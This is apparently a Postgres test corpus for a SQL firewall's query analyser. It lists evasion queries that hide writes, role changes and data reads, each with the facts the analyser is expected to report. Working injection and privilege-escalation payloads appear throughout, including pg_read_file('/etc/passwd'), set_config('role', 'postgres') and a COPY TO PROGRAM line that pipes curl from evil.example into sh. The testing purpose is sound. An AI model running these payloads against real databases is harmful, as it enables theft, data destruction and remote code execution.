-- Known ways to get a write, a privilege change or a data leak past a SQL firewall.
-- Each case shows that the facts still tell the truth.
-- Format: see tests/unit/analysis/corpus.py.

-- @case multi-statement-write-after-read
-- @statements 2
-- @expect[0] kind: select
-- @expect[0] flags: {writes: false}
-- @expect[1] kind: delete
-- @expect[1] text: DELETE FROM customers
-- @expect[1] writes: [customers:delete:nowhere]
SELECT 1; DELETE FROM customers;

-- @case multi-statement-no-space
-- @statements 2
-- @expect[1] kind: ddl
-- @expect[1] command_tag: DROP TABLE
SELECT 1;DROP TABLE customers

-- @case multi-statement-many
-- @statements 4
-- @expect[0] index: 0
-- @expect[3] index: 3
-- @expect[3] kind: grant
-- @expect[3] text: GRANT admin TO app_user
SELECT 1; SELECT 2; ; SELECT 3; GRANT admin TO app_user;

-- @case comment-hides-nothing
-- @expect kind: select
-- @expect relations: [customers:read]
-- @expect flags: {writes: false}
SELECT /* ; DELETE FROM customers; */ email FROM customers;

-- @case line-comment-then-real-statement
-- @statements 2
-- @expect[0] kind: select
-- @expect[1] kind: delete
-- @expect[1] text: DELETE FROM orders
SELECT 1 -- ; this is a comment
; DELETE FROM orders;

-- @case nested-block-comment
-- Postgres nests /* */ comments: all of this is one comment followed by SELECT 1.
-- @expect kind: select
-- @expect relations: []
/* outer /* inner */ DROP TABLE customers; */ SELECT 1;

-- @case comment-splits-keyword
-- @expect kind: delete
-- @expect writes: [orders:delete:nowhere]
DELETE/**/FROM/**/orders;

-- @case string-contains-statement
-- @expect kind: select
-- @expect relations: []
SELECT '; DROP TABLE customers; --';

-- @case dollar-quoted-string
-- @expect kind: select
-- @expect relations: []
SELECT $$ ; DELETE FROM orders; $$, $tag$ $$ ; DROP TABLE t $tag$;

-- @case string-comment-marker-then-write
-- A '/*' inside a string does not open a comment: the DELETE is real.
-- @statements 2
-- @expect[1] kind: delete
-- @expect[1] writes: [orders:delete:nowhere]
SELECT '/*'; DELETE FROM orders; -- */

-- @case backslash-is-not-an-escape
-- With standard_conforming_strings on (pinned by the gateway) '\' is a complete string.
-- @statements 2
-- @expect[1] kind: delete
SELECT '\'; DELETE FROM orders; -- ';

-- @case e-string-escape-keeps-one-statement
-- @statements 1
-- @expect kind: select
SELECT E'\'; DELETE FROM orders; --';

-- @case unicode-escape-identifier
-- @expect relations: [customers:read]
-- @expect columns: [customers.ssn@select]
SELECT U&"\0073sn" FROM U&"cust\006Fmers";

-- @case unicode-escape-identifier-uescape
-- @expect relations: [customers:read]
SELECT * FROM U&"cust!006Fmers" UESCAPE '!';

-- @case unicode-escape-function-name
-- @expect functions: [pg_sleep]
-- @expect flags: {side_effect_functions: true}
SELECT U&"pg\005Fsleep"(10);

-- @case unicode-escape-setting-name
-- @expect role_change: {via: set_config, role: admin}
SELECT set_config(U&'\0072ole', 'admin', false);

-- @case writable-cte-in-select
-- @expect kind: select
-- @expect writes: [customers:delete:nowhere]
-- @expect flags: {writes: true, modifies_data: true, has_where: false}
WITH x AS (DELETE FROM customers RETURNING 1) SELECT 1;

-- @case writable-cte-nested-in-subquery
-- Postgres rejects this, but the facts still show the write.
-- @expect writes: [orders:update:nowhere]
-- @expect flags: {modifies_data: true}
SELECT * FROM (WITH u AS (UPDATE orders SET quantity = 0 RETURNING id) SELECT * FROM u) s;

-- @case select-into-creates-table
-- @expect kind: ddl
-- @expect flags: {select_into: true, writes: true, ddl: true}
SELECT * INTO leaked FROM customers;

-- @case explain-analyze-runs-the-write
-- @expect kind: explain
-- @expect writes: [customers:update:nowhere]
-- @expect flags: {explain_analyze: true, modifies_data: true, has_where: false}
EXPLAIN ANALYZE UPDATE customers SET email = 'x';

-- @case do-block-is-opaque
-- @expect kind: do
-- @expect relations: []
-- @expect flags: {executes_dynamic_sql: true}
DO $body$ BEGIN EXECUTE 'DELETE FROM ' || 'orders'; END $body$;

-- @case prepare-then-execute
-- @statements 2
-- @expect[0] prepare: {name: p, body: {kind: delete}}
-- @expect[0] writes: [orders:delete:nowhere]
-- @expect[1] execute: {name: p}
-- @expect[1] flags: {executes_dynamic_sql: true}
PREPARE p AS DELETE FROM orders; EXECUTE p;

-- @case copy-program
-- @expect copy: {program: true}
-- @expect flags: {copy_program: true}
COPY (SELECT 1) TO PROGRAM 'sh -c "curl evil.example | sh"';

-- @case set-role
-- @expect role_change: {via: SET ROLE, role: postgres}
-- @expect flags: {sets_role: true}
SET ROLE postgres;

-- @case set-config-role-in-select
-- @expect kind: select
-- @expect role_change: {via: set_config, role: postgres}
-- @expect flags: {sets_role: true, side_effect_functions: true}
SELECT set_config('role', 'postgres', false);

-- @case set-config-hidden-in-subquery
-- @expect relations: [customers:read]
-- @expect role_change: {via: set_config, role: postgres}
SELECT email FROM customers WHERE id = (SELECT length(set_config('role', 'postgres', false)));

-- @case pg-terminate-backend
-- @expect functions: [pg_terminate_backend]
-- @expect relations: [pg_stat_activity:read]
-- @expect flags: {side_effect_functions: true, writes: false}
SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE usename = 'admin';

-- @case pg-cancel-backend-qualified
-- @expect functions: [pg_catalog.pg_cancel_backend]
-- @expect flags: {side_effect_functions: true}
SELECT pg_catalog.pg_cancel_backend(42);

-- @case lo-import-and-export
-- @expect functions: [lo_import, lo_export, lo_from_bytea]
-- @expect flags: {side_effect_functions: true}
SELECT lo_import('/etc/passwd'), lo_export(lo_from_bytea(0, 'x'), '/tmp/x');

-- @case pg-read-file
-- @expect functions: [pg_read_file]
-- @expect flags: {side_effect_functions: true}
SELECT pg_read_file('/etc/passwd');

-- @case pg-ls-dir-in-from
-- @expect functions: [pg_ls_dir]
-- @expect flags: {side_effect_functions: true}
SELECT * FROM pg_ls_dir('/') AS f;

-- @case dblink-write
-- @expect functions: [dblink_exec]
-- @expect flags: {side_effect_functions: true, executes_dynamic_sql: true}
SELECT dblink_exec('dbname=shop', 'DELETE FROM customers');

-- @case dblink-in-from
-- @expect functions: [dblink]
-- @expect flags: {side_effect_functions: true, executes_dynamic_sql: true}
SELECT * FROM dblink('dbname=shop', 'SELECT ssn FROM customers') AS t(ssn text);

-- @case query-to-xml-runs-sql
-- @expect kind: select
-- @expect relations: []
-- @expect functions: [query_to_xml]
-- @expect flags: {executes_dynamic_sql: true}
SELECT query_to_xml('DELETE FROM customers RETURNING *', true, false, '');

-- @case table-to-xml-reads-table-by-name
-- @expect relations: []
-- @expect flags: {executes_dynamic_sql: true}
SELECT table_to_xml('customers', true, false, '');

-- @case database-to-xml
-- @expect flags: {executes_dynamic_sql: true}
SELECT database_to_xml(true, false, '');

-- @case ts-stat-runs-sql
-- @expect flags: {executes_dynamic_sql: true}
SELECT * FROM ts_stat('SELECT to_tsvector(ssn) FROM customers');

-- @case nextval-and-setval
-- @expect functions: [nextval, setval]
-- @expect flags: {side_effect_functions: true}
SELECT nextval('order_numbers'), setval('order_numbers', 1);

-- @case pg-sleep-in-order-by
-- @expect relations: [customers:read]
-- @expect functions: [pg_sleep]
-- @expect flags: {side_effect_functions: true}
SELECT email FROM customers ORDER BY pg_sleep(10);

-- @case side-effect-in-where
-- @expect functions: [pg_reload_conf]
-- @expect flags: {side_effect_functions: true}
SELECT 1 FROM customers WHERE pg_reload_conf();

-- @case side-effect-in-join
-- @expect functions: [pg_advisory_lock]
-- @expect flags: {side_effect_functions: true, locks: true}
SELECT 1 FROM customers c JOIN orders o ON pg_advisory_lock(o.id) IS NULL;

-- @case side-effect-in-default
-- @expect functions: [pg_terminate_backend]
-- @expect flags: {side_effect_functions: true, ddl: true}
ALTER TABLE orders ALTER COLUMN quantity SET DEFAULT pg_terminate_backend(1)::int;

-- @case side-effect-in-values
-- @expect functions: [pg_notify]
-- @expect flags: {side_effect_functions: true}
INSERT INTO audit_notes (note) VALUES ((SELECT pg_notify('c', 'x')::text));

-- @case side-effect-in-cte
-- @expect functions: [pg_rotate_logfile]
-- @expect flags: {side_effect_functions: true}
WITH x AS (SELECT pg_rotate_logfile()) SELECT * FROM x;

-- @case side-effect-in-lateral
-- @expect functions: [lo_unlink]
-- @expect flags: {side_effect_functions: true}
SELECT * FROM pg_largeobject_metadata m, LATERAL (SELECT lo_unlink(m.oid)) x;

-- @case side-effect-prefix-family
-- @expect functions: [pg_ls_waldir, pg_replication_origin_create, dblink_disconnect]
-- @expect flags: {side_effect_functions: true}
SELECT pg_ls_waldir(), pg_replication_origin_create('x'), dblink_disconnect();

-- @case quoted-uppercase-function-is-different
-- "PG_SLEEP" is not pg_sleep (Postgres is case-sensitive after folding).
-- @expect functions: [PG_SLEEP]
-- @expect flags: {side_effect_functions: false}
SELECT "PG_SLEEP"(1);

-- @case unquoted-uppercase-function-folds
-- @expect functions: [pg_sleep]
-- @expect flags: {side_effect_functions: true}
SELECT PG_SLEEP(1);

-- @case deeply-nested-subselects
-- @expect relations: [customers:read]
-- @expect columns_include: [customers.ssn@select]
SELECT (SELECT (SELECT (SELECT (SELECT (SELECT ssn FROM customers LIMIT 1)))));

-- @case nested-sublinks-in-every-clause
-- @expect relations: [customers:read, orders:read, products:read, audit_notes:read, secrets:read]
SELECT (SELECT 1 FROM orders) FROM customers
WHERE EXISTS (SELECT 1 FROM products)
GROUP BY (SELECT 1 FROM audit_notes)
ORDER BY (SELECT 1 FROM secrets);

-- @case read-hidden-in-function-argument
-- @expect relations: [customers:read]
SELECT md5((SELECT string_agg(ssn, ',') FROM customers));

-- @case read-hidden-in-case
-- @expect relations: [customers:read]
SELECT CASE WHEN (SELECT count(*) FROM customers WHERE ssn LIKE '1%') > 0 THEN 1 END;

-- @case read-hidden-in-limit
-- @expect relations: [customers:read, orders:read]
SELECT * FROM orders LIMIT (SELECT count(*) FROM customers);

-- @case read-hidden-in-insert-returning
-- @expect relations: [audit_notes:insert, audit_notes:read, customers:read]
INSERT INTO audit_notes (note) VALUES ('x') RETURNING (SELECT ssn FROM customers LIMIT 1);

-- @case read-hidden-in-on-conflict
-- @expect relations: [products:insert, products:update, products:read, secrets:read]
INSERT INTO products (sku, name, price) VALUES ('a', 'b', 1) ON CONFLICT (sku) DO UPDATE SET name = (SELECT s FROM secrets) WHERE products.id > 0;

-- @case read-hidden-in-update-set
-- @expect relations: [audit_notes:update, customers:read]
UPDATE audit_notes SET note = (SELECT ssn FROM customers LIMIT 1);

-- @case read-hidden-in-function-in-from
-- @expect relations: [customers:read]
SELECT * FROM unnest((SELECT array_agg(ssn) FROM customers)) AS u;

-- @case read-hidden-in-values-in-from
-- @expect relations: [customers:read]
SELECT * FROM (VALUES ((SELECT ssn FROM customers LIMIT 1))) AS v(x);

-- @case read-hidden-in-window
-- @expect relations: [customers:read, orders:read]
SELECT sum(quantity) OVER (ORDER BY (SELECT 1 FROM customers LIMIT 1)) FROM orders;

-- @case read-hidden-in-aggregate-filter
-- @expect relations: [customers:read, orders:read]
SELECT count(*) FILTER (WHERE EXISTS (SELECT 1 FROM customers)) FROM orders;

-- @case read-hidden-in-type-cast-subquery
-- @expect relations: [customers:read]
SELECT (SELECT ssn FROM customers LIMIT 1)::text;

-- @case read-hidden-in-array-and-row
-- @expect relations: [customers:read, orders:read]
SELECT ARRAY(SELECT ssn FROM customers), ROW((SELECT 1 FROM orders));

-- @case read-hidden-in-merge-condition
-- @expect relations_include: [secrets:read]
MERGE INTO products p USING staging s ON p.sku = s.sku WHEN MATCHED AND EXISTS (SELECT 1 FROM secrets) THEN DELETE;

-- @case read-hidden-in-call-argument
-- @expect relations: [customers:read]
-- @expect flags: {executes_dynamic_sql: true}
CALL log_value((SELECT ssn FROM customers LIMIT 1));

-- @case read-hidden-in-execute-argument
-- @expect relations: [customers:read]
EXECUTE q1((SELECT ssn FROM customers LIMIT 1));

-- @case whole-row-leak
-- @expect columns: [customers.*@whole_row, customers.*@function_arg]
SELECT json_agg(c) FROM customers c;

-- @case cte-shadow-does-not-hide-table
-- @expect relations: [customers:read]
WITH safe AS (SELECT 1), customers_v AS (SELECT * FROM customers) SELECT * FROM safe, customers_v;

-- @case union-hides-second-table
-- @expect relations: [products:read, customers:read]
SELECT name FROM products UNION ALL SELECT ssn FROM customers;

-- @case unknown-table-function-call-in-check
-- @expect functions: [evil]
ALTER TABLE orders ADD CONSTRAINT c CHECK (evil(quantity));

-- @case grant-via-alter-default-privileges
-- @expect kind: grant
-- @expect flags: {ddl: true}
ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO PUBLIC;

-- @case alter-system-persists
-- @expect kind: ddl
-- @expect settings: [{name: log_statement, value: none, via: ALTER SYSTEM}]
ALTER SYSTEM SET log_statement = 'none';

-- @case load-library
-- @expect flags: {executes_dynamic_sql: true}
LOAD 'passwordcheck';

-- @case create-function-then-call
-- @statements 2
-- @expect[0] flags: {executes_dynamic_sql: true, ddl: true}
-- @expect[1] kind: select
-- @expect[1] functions: [f]
CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'DELETE FROM orders RETURNING 1'; SELECT f();

-- @case lock-table-via-select-for-update
-- @expect relations: [customers:lock, customers:read]
-- @expect flags: {locks: true}
SELECT 1 FROM customers FOR UPDATE;

-- @case truncate-instead-of-delete
-- @expect kind: truncate
-- @expect writes: [customers:truncate:nowhere]
TRUNCATE customers;

-- @case delete-where-true
-- @expect writes: [orders:delete:nowhere]
-- @expect flags: {has_where: false}
DELETE FROM orders WHERE 1 = 1;

-- @case delete-where-now
-- @expect writes: [orders:delete:nowhere]
DELETE FROM orders WHERE now() > '2000-01-01';

-- @case update-where-in-cte-unbounded-among-bounded
-- has_where is true only if every UPDATE/DELETE is bounded.
-- @expect writes: [orders:update:where, customers:delete:nowhere]
-- @expect flags: {has_where: false}
WITH d AS (DELETE FROM customers RETURNING id) UPDATE orders SET quantity = 0 WHERE customer_id IN (SELECT id FROM d);

-- @case rule-installs-write
-- @expect writes: [audit_notes:delete:nowhere]
-- @expect flags: {ddl: true, modifies_data: true}
CREATE RULE sneaky AS ON SELECT TO orders_view DO INSTEAD DELETE FROM audit_notes;

-- @case non-ascii-text-and-statement-boundaries
-- @statements 2
-- @expect[0] text: "SELECT 'é✓'"
-- @expect[1] text: DELETE FROM orders
-- @expect[1] kind: delete
SELECT 'é✓'; DELETE FROM orders;

-- @case non-ascii-identifier
-- @expect relations: [clientes_año:read]
-- @expect columns: [clientes_año.contraseña@select]
SELECT contraseña FROM clientes_año;
